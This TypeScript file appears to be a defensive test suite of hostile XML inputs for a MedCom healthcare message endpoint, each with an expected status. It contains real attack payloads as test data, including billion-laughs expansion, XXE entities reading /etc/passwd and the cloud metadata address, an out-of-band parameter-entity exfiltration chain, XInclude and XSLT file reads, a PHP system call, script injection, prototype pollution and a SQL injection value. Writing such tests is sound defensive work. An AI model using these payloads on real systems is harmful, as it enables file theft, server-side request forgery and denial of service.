/* MedCom XML: declarations, entities, namespaces, and structure that says two things at once. */
import { type HostileCase, letter, mark, posted, type Row } from './case.ts';

const declaration = '<?xml version="1.0" encoding="UTF-8"?>';

/* A letter with a DOCTYPE and a use of its entity. */
function withDoctype(subset: string, text: string = mark): string {
  return `${declaration}<!DOCTYPE Emessage ${subset}>${letter(text)}`;
}

const external = (address: string) => () => withDoctype(`[<!ENTITY f SYSTEM "${address}">]`, `${mark}&f;`);

const doctypes: Row<string>[] = [
  [
    'a billion laughs',
    () =>
      withDoctype(
        `[<!ENTITY a "${mark}">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${'abcdefghij'[n + 1]} "${`&${'abcdefghij'[n]};`.repeat(10)}">`).join('')}]`,
        '&j;',
      ),
  ],
  ['a quadratic blow-up', () => withDoctype(`[<!ENTITY a "${mark.repeat(500)}">]`, '&a;'.repeat(3_000))],
  ['an entity that holds itself', () => withDoctype('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', `${mark}&a;`)],
  ['a bare DOCTYPE', () => withDoctype('')],
  ['a DOCTYPE with a system identifier', () => withDoctype('SYSTEM "http://127.0.0.1:1/evil.dtd"')],
  [
    'a DOCTYPE with a public identifier',
    () => withDoctype('PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1:1/x"'),
  ],
  ['a DOCTYPE in lower case', () => letter().replace('<Emessage', '<!doctype Emessage><Emessage')],
  ['a DOCTYPE behind a comment', () => `<!-- > --><!DOCTYPE Emessage>${letter()}`],
  ['a DOCTYPE behind an instruction', () => `<?x >?><!DOCTYPE Emessage>${letter()}`],
  ['a DOCTYPE behind a byte order mark', () => `\ufeff<!DOCTYPE Emessage>${letter()}`],
  ['a DOCTYPE within the root', () => letter().replace('<Envelope>', '<!DOCTYPE Envelope><Envelope>')],
  ['a DOCTYPE behind the root', () => `${letter()}<!DOCTYPE Emessage>`],
  ['an entity of a local file', external('file:///etc/passwd')],
  ['an entity over HTTP', external('http://169.254.169.254/latest/meta-data/')],
  ['an entity over FTP', external('ftp://127.0.0.1:1/x')],
  ['an entity out of an archive', external('jar:file:///tmp/x.zip!/x')],
  ['an entity through a filter of PHP', external('php://filter/convert.base64-encode/resource=/etc/passwd')],
  ['an entity of a relative address', external('../../../../etc/hostname')],
  ['an entity of a Windows share', external('\\\\127.0.0.1\\c$\\x')],
  ['an external parameter entity', () => withDoctype('[<!ENTITY % p SYSTEM "http://127.0.0.1:1/p.dtd"> %p;]')],
  [
    'parameter entities that build an entity',
    () =>
      withDoctype(
        `[<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#37; x SYSTEM 'http://127.0.0.1:1/?%f;'>"> %e; %x;]`,
      ),
  ],
  ['a default value by ATTLIST', () => withDoctype(`[<!ATTLIST Sender a CDATA "${mark}">]`)],
  [
    'a notation and an unparsed entity',
    () => withDoctype('[<!NOTATION n SYSTEM "/bin/sh"><!ENTITY u SYSTEM "x" NDATA n>]'),
  ],
  ['an entity that changes the meaning of &lt;', () => withDoctype('[<!ENTITY lt "&#38;#60;Break/>">]', '&lt;')],
  ['an entity as the CPR', () => `<!DOCTYPE x [<!ENTITY c "0511219996">]>${letter().replace('>0511219996<', '>&c;<')}`],
  ['a conditional section', () => withDoctype('[<![INCLUDE[<!ENTITY a "b">]]>]', '&a;')],
];

const entities: Row<string>[] = [
  ['an entity nobody declared', () => letter(`${mark}&nope;`)],
  ['an entity of HTML', () => letter(`${mark}&nbsp;&aelig;`)],
  ['an entity without its end', () => letter(`${mark}&amp`)],
  ['a reference to NUL', () => letter(`${mark}&#0;`)],
  ['a reference to a control character', () => letter(`${mark}&#x1;`)],
  ['a reference to half a surrogate pair', () => letter(`${mark}&#xD83D;`)],
  ['two references that make a surrogate pair', () => letter(`${mark}&#xD83D;&#xDE00;`)],
  ['a reference beyond Unicode', () => letter(`${mark}&#x110000;`)],
  ['a reference to a non-character', () => letter(`${mark}&#xFFFE;`)],
  [
    'a reference of ten thousand zeros',
    () => letter(`${mark}&#x${'0'.repeat(10_000)}41;`),
    202,
    'the reference means A',
  ],
  ['a reference that overflows 32 bits', () => letter(`${mark}&#4294967361;`)],
  ['a reference with a sign', () => letter(`${mark}&#-65;`)],
  [
    'references as the GLN',
    () => letter().replace('>5790000990016<', '>&#53;790000990016<'),
    202,
    'XML means the same number',
  ],
  ['markup by references', () => letter(`${mark}&#60;script>&#38;amp;`), 202, 'it is text that looks like markup'],
];

const namespaces: Row<string>[] = [
  ['the namespace taken back within', () => letter().replace('<Sender>', '<Sender xmlns="">')],
  ['another namespace on the root', () => letter().replace('2006/07/01', '2006/07/02')],
  ['the namespace of another letter', () => letter().replace('2006/07/01', '2005/08/07')],
  ['no namespace at all', () => letter().replace(/ xmlns="[^"]*"/, '')],
  ['a prefix nobody bound', () => letter().replace('<Sender>', '<evil:Sender>').replace('</Sender>', '</evil:Sender>')],
  ['the prefix xml bound anew', () => letter().replace('<Emessage ', '<Emessage xmlns:xml="urn:x" ')],
  ['the prefix xmlns bound', () => letter().replace('<Emessage ', '<Emessage xmlns:xmlns="urn:x" ')],
  ['a prefix bound to nothing', () => letter().replace('<Emessage ', '<Emessage xmlns:a="" ')],
  [
    'the reserved namespace as default',
    () => letter().replace(/xmlns="[^"]*"/, 'xmlns="http://www.w3.org/XML/1998/namespace"'),
  ],
  [
    'one attribute twice through two prefixes',
    () => letter().replace('<Sender>', '<Sender xmlns:a="urn:x" xmlns:b="urn:x" a:y="1" b:y="2">'),
  ],
  [
    'an element of a foreign namespace',
    () => letter().replace('<Sender>', `<x:Sender xmlns:x="urn:x">${mark}</x:Sender><Sender>`),
  ],
  ['two colons in a name', () => letter().replace('<Sender>', '<a:b:Sender>').replace('</Sender>', '</a:b:Sender>')],
  [
    'a name that begins with a colon',
    () => letter().replace('<Sender>', '<:Sender>').replace('</Sender>', '</:Sender>'),
  ],
  [
    'every element with a prefix',
    () =>
      letter()
        .replace('xmlns="', 'xmlns:m="')
        .replace(/<(\/?)([A-Z])/g, '<$1m:$2'),
    202,
    'a prefix changes no name',
  ],
  [
    'a namespace by references',
    () => letter().replace('2006/07/01', '2006&#47;07/01'),
    202,
    'XML means the same namespace',
  ],
  [
    'a thousand namespaces',
    () =>
      letter().replace(
        '<Sender>',
        `<Sender ${Array.from({ length: 1_000 }, (_, n) => `xmlns:n${n}="urn:${n}"`).join(' ')}>`,
      ),
  ],
];

const instructions: Row<string>[] = [
  [
    'a style sheet from elsewhere',
    () => letter().replace('<Emessage', '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:1/x.xsl"?><Emessage'),
    202,
    'nobody follows it, and it is not handed on',
  ],
  [
    'an instruction to PHP',
    () => letter(`${mark}<?php system("id") ?>`),
    202,
    'nobody carries it out, and it is not handed on',
  ],
  ['an instruction called xml within', () => letter(`${mark}<?xml version="1.0"?>`)],
  [
    'an instruction within the CPR',
    () => letter().replace('>0511219996<', '>051121<?x?>9996<'),
    202,
    'XML means the same number, and everybody here reads it so',
  ],
  ['two declarations', () => `${declaration}${declaration}${letter()}`],
  ['a blank before the declaration', () => ` ${declaration}${letter()}`],
  ['a declaration without a version', () => `<?xml encoding="UTF-8"?>${letter()}`],
  ['version 1.1', () => `<?xml version="1.1"?>${letter()}`, 202, 'the letter is the same in either version'],
  ['version 9.9', () => `<?xml version="9.9"?>${letter()}`],
  ['a declaration without an end', () => `<?xml version="1.0"${letter()}`],
  [
    'a declaration that says it is not alone',
    () => `<?xml version="1.0" standalone="no"?>${letter()}`,
    202,
    'there is no DOCTYPE that it could mean',
  ],
  [
    'an include of a text',
    () => letter('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'),
  ],
  [
    'an include with a way out',
    () =>
      letter(
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="x"><xi:fallback>${mark}</xi:fallback></xi:include>`,
      ),
  ],
  [
    'an include as the root',
    () => '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
  ],
];

const xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"';
const attributes: Row<string>[] = [
  ['an xsi:type of another shape', () => letter().replace('<Sender>', `<Sender ${xsi} xsi:type="xs:anyType">`)],
  [
    'a schema from elsewhere',
    () => letter().replace('<Emessage ', `<Emessage ${xsi} xsi:schemaLocation="urn:x http://127.0.0.1:1/x.xsd" `),
    202,
    'the hint is allowed, and nobody follows it',
  ],
  [
    'a schema without a namespace from a file',
    () => letter().replace('<Emessage ', `<Emessage ${xsi} xsi:noNamespaceSchemaLocation="file:///etc/passwd" `),
    202,
    'the hint is allowed, and nobody follows it',
  ],
  [
    'an element that says it is nil',
    () => letter().replace('<CivilRegistrationNumber>', `<CivilRegistrationNumber ${xsi} xsi:nil="true">`),
  ],
  ['a base address', () => letter().replace('<Emessage ', '<Emessage xml:base="http://127.0.0.1:1/" ')],
  [
    'an xml:id twice',
    () => letter().replace('<Sender>', '<Sender xml:id="a">').replace('<Receiver>', '<Receiver xml:id="a">'),
  ],
  [
    'a link that loads by itself',
    () =>
      letter().replace(
        '<Sender>',
        '<Sender xmlns:l="http://www.w3.org/1999/xlink" l:href="http://127.0.0.1:1/" l:actuate="onLoad">',
      ),
  ],
  ['one attribute twice', () => letter().replace('<Sender>', `<Sender a="${mark}" a="2">`)],
  ['an attribute without quotes', () => letter().replace('<Sender>', `<Sender a=${mark}>`)],
  ['an attribute without a value', () => letter().replace('<Sender>', `<Sender ${mark}>`)],
  ['a less-than sign in an attribute', () => letter().replace('<Sender>', `<Sender a="<${mark}">`)],
  ['an event of HTML', () => letter().replace('<Sender>', `<Sender onload="${mark}">`)],
  ['an attribute called __proto__', () => letter().replace('<Sender>', `<Sender __proto__="${mark}">`)],
  ['an attribute called constructor', () => letter().replace('<Sender>', `<Sender constructor="${mark}">`)],
  [
    'an attribute of 30,000 characters',
    () => letter().replace('<Sender>', `<Sender a="${mark}${'x'.repeat(30_000)}">`),
  ],
  [
    '2,000 attributes',
    () => letter().replace('<Sender>', `<Sender ${Array.from({ length: 2_000 }, (_, n) => `a${n}="1"`).join(' ')}>`),
  ],
];

const structure: Row<string>[] = [
  ['nothing', () => ''],
  ['blanks alone', () => ' \n\t '],
  ['a root alone', () => '<Emessage/>'],
  ['no root', () => `<!-- ${mark} -->`],
  ['two roots', () => letter() + letter()],
  ['text behind the root', () => letter() + mark],
  ['text between elements', () => letter().replace('<Sender>', `${mark}<Sender>`)],
  ['an end tag of another element', () => letter().replace('</Sender>', '</Receiver>')],
  ['an end tag too many', () => letter().replace('</Sender>', '</Sender></Sender>')],
  ['cut off within a tag', () => letter().slice(0, 400)],
  ['the root in lower case', () => letter().replaceAll('Emessage', 'emessage')],
  ['a name of 10,000 characters', () => letter().replace('<Sender>', `<${'x'.repeat(10_000)}/><Sender>`)],
  ['a name with signs beyond Latin', () => letter().replace('<Sender>', '<Ѕender>').replace('</Sender>', '</Ѕender>')],
  ['an element called __proto__', () => letter().replace('<Sender>', `<__proto__>${mark}</__proto__><Sender>`)],
  ['an element called constructor', () => letter().replace('<Sender>', `<constructor>${mark}</constructor><Sender>`)],
  ['nested 1,000 deep', () => letter(`${'<Bold>'.repeat(1_000)}${mark}${'</Bold>'.repeat(1_000)}`)],
  ['nested 1,000 deep outside of the text', () => letter().replace('<Sender>', `${'<Sender>'.repeat(1_000)}`)],
  ...[
    'Envelope',
    'Letter',
    'Sender',
    'Receiver',
    'Patient',
    'CivilRegistrationNumber',
    'EANIdentifier',
    'Identifier',
    'Text01',
    'Subject',
  ].map(
    (name): Row<string> => [`${name} twice`, () => letter().replace(new RegExp(`<${name}>.*?</${name}>`, 's'), '$&$&')],
  ),
  [
    'sender and receiver in the wrong order',
    () => letter().replace(/(<Sender>.*<\/Sender>)(\s*)(<Receiver>.*<\/Receiver>)/s, '$3$2$1'),
  ],
  [
    'CDATA as the CPR',
    () => letter().replace('>0511219996<', '><![CDATA[0511219996]]><'),
    202,
    'XML means the same number',
  ],
  [
    'a CPR in two CDATA sections',
    () => letter().replace('>0511219996<', '><![CDATA[051121]]><![CDATA[9996]]><'),
    202,
    'XML means the same number',
  ],
  [
    'a comment within the GLN',
    () => letter().replace('>5790000990016<', '>5790000<!-- 990023 -->990016<'),
    202,
    'XML means the same number, and everybody here reads it so',
  ],
  [
    'an end tag in CDATA',
    () => letter(`<![CDATA[${mark}</Text01></ClinicalInformation>]]>`),
    202,
    'it is text that looks like markup',
  ],
  [
    'a DOCTYPE in CDATA',
    () => letter(`<![CDATA[<!DOCTYPE x [<!ENTITY a "${mark}">]>]]>`),
    202,
    'it is text that looks like a declaration',
  ],
  [
    'a DOCTYPE in a comment',
    () => letter().replace('<Sender>', '<!-- <!DOCTYPE x> --><Sender>'),
    202,
    'a comment declares nothing',
  ],
  ['CDATA within CDATA', () => letter(`<![CDATA[<![CDATA[${mark}]]>]]>`)],
  ['the end of CDATA in a text', () => letter(`${mark}]]>`)],
  ['two dashes in a comment', () => letter(`${mark}<!-- a -- b -->`)],
  ['a script as formatting', () => letter(`<script>${mark}</script>`)],
  ['a picture as formatting', () => letter(`<img src="x" onerror="${mark}"/>`)],
  [
    'a letter in an envelope of SOAP',
    () => `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>${letter()}</s:Body></s:Envelope>`,
  ],
  [
    'a transformation',
    () =>
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document('/etc/passwd')"/></xsl:template></xsl:stylesheet>`,
  ],
  [
    'a drawing with a script',
    () => `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>${mark}</script></svg>`,
  ],
  ['a page of HTML', () => `<html xmlns="http://www.w3.org/1999/xhtml"><body>${mark}</body></html>`],
  [
    'a call of XML-RPC',
    () => `<methodCall><methodName>system.listMethods</methodName><params><param>${mark}</param></params></methodCall>`,
  ],
  [
    'a wrapped signature',
    () =>
      letter().replace(
        '</Emessage>',
        '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:Reference URI="file:///etc/passwd"/></ds:Signature></Emessage>',
      ),
  ],
  [
    'an assertion of SAML',
    () =>
      `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><saml:Subject>${mark}</saml:Subject></saml:Assertion>`,
  ],
];

const numbers: Row<string>[] = [
  ['a GLN of full-width digits', () => letter().replace('5790000990016', '５７９００００９９００１６'), 403],
  ['a GLN of Arabic digits', () => letter().replace('5790000990016', '٥٧٩٠٠٠٠٩٩٠٠١٦'), 403],
  ['a GLN with a sign of no width', () => letter().replace('5790000990016', '5790000\u200b990016'), 403],
  ['a GLN of 10,000 digits', () => letter().replace('5790000990016', '5'.repeat(10_000))],
  ['a negative CPR', () => letter().replace('>0511219996<', '>-511219996<')],
  ['a CPR in words', () => letter().replace('>0511219996<', `>${mark}<`)],
  ['a day that is none', () => letter().replace('2026-11-02', '2026-02-30')],
  [
    'a year of nine digits',
    () => letter().replace('2026-11-02', '999999999-01-01'),
    202,
    'the date of the envelope is not read; that of the letter is',
  ],
  ['a time of 25 o’clock', () => letter().replace('10:15', '25:61')],
  ['a letter id of 10,000 characters', () => letter().replace(/>HOST[0-9]+</, `>${mark.repeat(800)}<`)],
  [
    'a letter id that leads out of its folder',
    () => letter().replace(/>HOST[0-9]+</, '>../../etc/x<'),
    202,
    'an id is a word that nobody looks up in a folder',
  ],
  [
    'a thread id that is none',
    () => letter().replace(/(<EpisodeOfCareIdentifier>)[0-9a-f]+/, `$1${mark}'; DROP TABLE threads`),
    202,
    'an id is a word, bound as a parameter',
  ],
];

export const xmlCases: readonly HostileCase[] = [
  ...posted('XML declarations', 'application/xml', doctypes),
  ...posted('XML references', 'application/xml', entities),
  ...posted('XML namespaces', 'application/xml', namespaces),
  ...posted('XML instructions', 'text/xml', instructions),
  ...posted('XML attributes', 'application/xml', attributes),
  ...posted('XML structure', 'application/xml', structure),
  ...posted('XML numbers', 'application/xml', numbers),
];
